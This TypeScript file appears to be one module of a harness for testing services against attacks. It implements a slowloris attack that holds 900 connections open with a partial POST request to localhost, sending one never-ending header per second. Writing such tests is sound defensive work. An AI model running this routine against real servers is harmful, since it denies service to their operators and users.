import type { Attack } from "../attack.ts";

const CONNECTIONS = 900;
const EVERY_MS = 1000;

export const slowHeaders: Attack = {
  name: "slow-headers",
  does: "900 connections send a header a second and never end them (slowloris)",
  targets: ["serve", "devnet", "follow"],
  async run(attacker) {
    await attacker.again(CONNECTIONS, async () => {
      const socket = await attacker.connect();
      socket?.write("POST /ext/bc/P HTTP/1.1\r\nHost: localhost\r\n");
      while (socket !== undefined && !socket.destroyed && !attacker.isOver()) {
        await attacker.wait(EVERY_MS);
        socket.write(`X-${Math.random()}: 1\r\n`);
      }
    });
  },
};
